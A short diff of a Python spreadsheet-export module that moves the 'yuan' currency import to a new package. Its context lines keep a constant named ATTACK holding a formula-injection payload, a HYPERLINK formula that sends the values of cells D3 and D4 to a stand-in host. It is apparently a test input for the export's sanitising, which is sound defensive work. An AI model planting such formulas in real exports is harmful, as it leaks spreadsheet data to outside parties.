@@ -4,8 +4,8 @@ from datetime import date
 
 import openpyxl
 
+from core.money import yuan
 from core.tables import Column, safe_text, sheet_name, write_csv, write_xlsx
-from core.templatetags.gonghui import yuan
 
 ATTACK = '=HYPERLINK("http://x/?d="&D3&D4,"查看")'
 
